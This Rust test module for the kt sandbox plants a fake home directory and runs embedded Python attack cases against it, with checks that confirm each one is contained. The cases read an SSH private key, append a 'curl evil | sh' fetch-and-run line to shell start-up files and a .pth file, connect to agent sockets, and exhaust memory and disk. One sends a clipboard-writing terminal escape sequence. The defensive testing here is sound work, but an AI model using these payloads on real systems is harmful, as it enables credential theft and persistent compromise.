//! The attacks on what the user who runs kt owns (issue 45): a home with a key, shell start-up files, a project with
//! a kernel and its sidecar, a kt-runs directory; a world-writable scratch directory outside /tmp with a Unix socket
//! in it; the kernel keyring; memory and disk through a whole process tree; escape sequences for the terminal.
//!
//! The home is `$KT_ATTACK_HOME` when set (the CI user's real home: `corpus_holds_for_an_ordinary_user` sets it
//! and `$HOME`, so the sandbox's default hidden paths are what protects it); otherwise a scratch home outside /tmp
//! that the corpus's policy hides explicitly (a developer's real home is never planted into).

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use kt_sandbox::{GeneratedTest, GeneratorError, Protections};

use super::Case;
use super::host::Host;

/// The user's files the attacks go after, and a copy of them to compare with afterwards.
pub struct Home {
    pub dir: PathBuf,
    /// Whether this is the user's real home (`$HOME`), hidden by the sandbox's defaults.
    pub real: bool,
    pub key_text: String,
    pub scratch: PathBuf,
    pub snapshot: Vec<(PathBuf, Vec<u8>)>,
}

const FILES: [(&str, &str, u32); 8] = [
    (
        ".ssh/id_rsa",
        "-----BEGIN OPENSSH PRIVATE KEY----- kt-attack-key",
        0o600,
    ),
    (".bashrc", "# the user's bashrc\n", 0o644),
    (".profile", "# the user's profile\n", 0o644),
    (
        ".config/kt/config.toml",
        "[llm]\nprovider = \"openai\"\n",
        0o600,
    ),
    (
        "proj/vec_add.cu",
        "__global__ void vec_add(float *a, int n) {}\n",
        0o644,
    ),
    ("proj/vec_add.toml", "[kernel]\noutputs = [\"a\"]\n", 0o644),
    (
        "proj/kt-runs/r1/run.json",
        "{\"status\": \"running\"}",
        0o600,
    ),
    ("proj/kt-runs/r1/run.sqlite", "SQLite format 3\0", 0o600),
];

impl Home {
    /// Plants the files (the key made unique to this process).
    pub fn prepare(scratch_root: &Path) -> Home {
        let (dir, real) = match std::env::var_os("KT_ATTACK_HOME") {
            Some(home) => {
                assert_eq!(
                    std::env::var_os("HOME").as_deref(),
                    Some(home.as_os_str()),
                    "KT_ATTACK_HOME must be $HOME"
                );
                (PathBuf::from(home), true)
            }
            None => (scratch_root.join("home"), false),
        };
        let key_text = format!("kt-attack-key-{}", std::process::id());
        for (path, text, mode) in FILES {
            let path = dir.join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            let text = text.replace("kt-attack-key", &key_text);
            std::fs::write(&path, text).unwrap();
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
        }
        std::fs::set_permissions(dir.join(".ssh"), std::fs::Permissions::from_mode(0o700)).unwrap();
        // an ssh ControlMaster socket in the home
        let master = dir.join(".ssh/cm.sock");
        let _ = std::fs::remove_file(&master);
        let listener = std::os::unix::net::UnixListener::bind(&master).unwrap();
        std::mem::forget(listener);
        let scratch = match std::env::var_os("KT_ATTACK_SCRATCH") {
            Some(s) => PathBuf::from(s),
            None => {
                let s = scratch_root.join("scratch");
                std::fs::create_dir(&s).unwrap();
                std::fs::set_permissions(&s, std::fs::Permissions::from_mode(0o1777)).unwrap();
                s
            }
        };
        // an agent's socket in a world-writable scratch directory outside /tmp and /run
        let agent = scratch.join(format!("agent-{}.sock", std::process::id()));
        let listener = std::os::unix::net::UnixListener::bind(&agent).unwrap();
        std::fs::set_permissions(&agent, std::fs::Permissions::from_mode(0o777)).unwrap();
        std::mem::forget(listener);
        let mut home = Home {
            dir,
            real,
            key_text,
            scratch,
            snapshot: Vec::new(),
        };
        home.snapshot = home.files();
        home
    }

    /// Every regular file under the home and the scratch directory, with its contents.
    fn files(&self) -> Vec<(PathBuf, Vec<u8>)> {
        let mut out = Vec::new();
        for root in [&self.dir, &self.scratch] {
            for path in super::checks::walk(root) {
                if std::fs::symlink_metadata(&path).is_ok_and(|m| m.is_file()) {
                    let bytes = std::fs::read(&path).unwrap_or_default();
                    out.push((path, bytes));
                }
            }
        }
        out.sort();
        out
    }
}

type Res = Result<GeneratedTest, GeneratorError>;

/// Nothing in the home or the scratch directory changed, appeared or vanished.
fn home_untouched(h: &Host, _: &Res) -> Result<(), String> {
    let now = h.home.files();
    if now == h.home.snapshot {
        return Ok(());
    }
    let before: Vec<&PathBuf> = h.home.snapshot.iter().map(|(p, _)| p).collect();
    let changed: Vec<String> = now
        .iter()
        .filter(|(p, b)| {
            h.home
                .snapshot
                .iter()
                .find(|(q, _)| q == p)
                .is_none_or(|(_, c)| c != b)
        })
        .map(|(p, _)| p.display().to_string())
        .collect();
    // put the planted files back for the next case
    for (path, bytes) in &h.home.snapshot {
        let _ = std::fs::write(path, bytes);
    }
    for (path, _) in &now {
        if !before.contains(&path) {
            let _ = std::fs::remove_file(path);
        }
    }
    Err(format!("changed or new: {}", changed.join(", ")))
}

/// The key's text reached neither the error (the retry prompt) nor the written test.
fn key_kept(h: &Host, r: &Res) -> Result<(), String> {
    match r {
        Err(e) if e.to_string().contains(&h.home.key_text) => {
            Err("the key's text is in the error kt sends back to the LLM".into())
        }
        Ok(test) => {
            for file in super::checks::walk(&test.dir) {
                let bytes = std::fs::read(&file).unwrap_or_default();
                if String::from_utf8_lossy(&bytes).contains(&h.home.key_text) {
                    return Err(format!("the key's text is in {}", file.display()));
                }
            }
            Ok(())
        }
        Err(_) => Ok(()),
    }
}

fn no_raw_escape(_: &Host, r: &Res) -> Result<(), String> {
    match r {
        Err(e) => {
            let text = e.to_string();
            if text.contains('\x1b') || text.contains('\x07') {
                Err("a raw escape sequence reaches the terminal".into())
            } else if !text.contains("\\x1b]52") {
                Err(format!("the exception's text went missing: {text}"))
            } else {
                Ok(())
            }
        }
        Ok(_) => Err("the generator's exception went missing".into()),
    }
}

fn private_home(p: &Protections) -> bool {
    p.read_only_host
}
fn home_protected(p: &Protections) -> bool {
    // as root a uid of its own cannot read a 0600 key or write the owner's files either
    p.read_only_host || p.unprivileged_user
}
fn filter(p: &Protections) -> bool {
    p.syscall_filter
}

pub fn cases() -> Vec<Case> {
    vec![
        Case {
            name: "read ~/.ssh/id_rsa into the test and the retry prompt",
            needs: Some(home_protected),
            check: key_kept,
            attack: r#"
    try:
        key = open(os.path.join(HOME, ".ssh/id_rsa")).read()
        escaped = "read ~/.ssh/id_rsa: " + key
    except OSError:
        pass
"#,
        },
        Case {
            name: "write ~/.bashrc, ~/.profile, ~/.config/autostart, ~/.config/kt and a .pth",
            needs: Some(home_protected),
            check: home_untouched,
            attack: r#"
    import sys
    site = os.path.join(HOME, ".local/lib/python%d.%d/site-packages" % sys.version_info[:2])
    targets = [(".bashrc", "a"), (".profile", "a"), (".config/autostart/kt.desktop", "w"),
               (".config/kt/config.toml", "a"), (os.path.join(site, "kt.pth"), "w")]
    done = []
    for rel, mode in targets:
        path = os.path.join(HOME, rel)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, mode).write("\nimport os; os.system('curl evil | sh')\n"); done.append(rel)
        except OSError:
            pass
    if done: escaped = "wrote " + ", ".join(done)
"#,
        },
        Case {
            name: "modify the kernel file and its sidecar",
            needs: Some(home_protected),
            check: home_untouched,
            attack: r#"
    done = []
    for d in (os.path.join(HOME, "proj"), KT_CWD):
        for name in ("vec_add.cu", "vec_add.toml"):
            try:
                open(os.path.join(d, name), "a").write("// planted\n"); done.append(name)
            except OSError:
                pass
    if done: escaped = "modified " + ", ".join(done)
"#,
        },
        Case {
            name: "rewrite every run.sqlite and run.json it can find",
            needs: Some(home_protected),
            check: home_untouched,
            attack: r#"
    done = []
    for top in (HOME, KT_CWD, SCRATCH, "/home"):
        for root, dirs, files in os.walk(top):
            for name in files:
                if name in ("run.json", "run.sqlite"):
                    try:
                        open(os.path.join(root, name), "r+b").write(b"{}"); done.append(os.path.join(root, name))
                    except OSError:
                        pass
    if done: escaped = "rewrote " + ", ".join(done)
"#,
        },
        Case {
            name: "connect to Unix sockets outside /tmp and /run (an agent, an ssh ControlMaster)",
            needs: Some(filter),
            check: super::checks::none,
            attack: r#"
    import socket, glob
    for path in glob.glob(os.path.join(SCRATCH, "*.sock")) + [os.path.join(HOME, ".ssh/cm.sock")]:
        try:
            socket.socket(socket.AF_UNIX).connect(path); escaped = "connected to " + path
        except OSError:
            pass
"#,
        },
        Case {
            name: "leave a file in a world-writable directory outside /tmp",
            needs: Some(private_home),
            check: home_untouched,
            attack: r#"
    try:
        open(os.path.join(SCRATCH, MARKER), "w").write("x"); escaped = "wrote " + SCRATCH
    except OSError:
        pass
"#,
        },
        Case {
            name: "store a secret in the kernel keyring (add_key, request_key, keyctl: each refused with EPERM)",
            needs: Some(filter),
            check: super::checks::none,
            attack: r#"
    import ctypes, errno, platform
    nrs = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}.get(platform.machine())
    if not nrs:
        raise Exception("ESCAPED: no keyring system-call numbers for " + platform.machine())
    libc = ctypes.CDLL(None, use_errno=True)
    add_key, request_key, keyctl = nrs
    calls = [("add_key", lambda ring: libc.syscall(add_key, b"user", b"kt-attack", b"secret", 6, ring)),
             ("request_key", lambda ring: libc.syscall(request_key, b"user", b"kt-attack", None, ring)),
             # KEYCTL_GET_KEYRING_ID
             ("keyctl", lambda ring: libc.syscall(keyctl, 0, ring, 1))]
    for name, call in calls:
        for ring in (-4, -3, -5):
            ctypes.set_errno(0)
            got = call(ring)
            err = ctypes.get_errno()
            if got >= 0:
                escaped = "%s on keyring %d returned %d" % (name, ring, got)
            elif err != errno.EPERM:
                escaped = "%s on keyring %d failed with %s, not a refusal (EPERM)" % (name, ring, errno.errorcode.get(err, err))
"#,
        },
        Case {
            name: "hold memory over the run's cap across three children",
            needs: None,
            check: super::checks::limit_stopped,
            attack: r#"
    import time
    for i in range(3):
        if os.fork() == 0:
            held = b"\1" * (450 << 20)
            time.sleep(30)
            os._exit(0)
    time.sleep(30)
    escaped = "three children held 1.3 GiB for 30 s"
"#,
        },
        Case {
            name: "fill the disk through deleted files held open",
            needs: None,
            check: super::checks::quota_stopped,
            attack: r#"
    import time
    held = []
    for i in range(16):
        f = open("gone%d" % i, "wb")
        f.write(b"\1" * (30 << 20)); f.flush()
        os.unlink("gone%d" % i)
        held.append(f)
    time.sleep(30)
    escaped = "held 480 MiB of deleted files"
"#,
        },
        Case {
            name: "send escape sequences to the terminal in its exception",
            needs: None,
            check: no_raw_escape,
            attack: r#"
    raise ValueError("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b]0;owned\x07")
"#,
        },
    ]
}
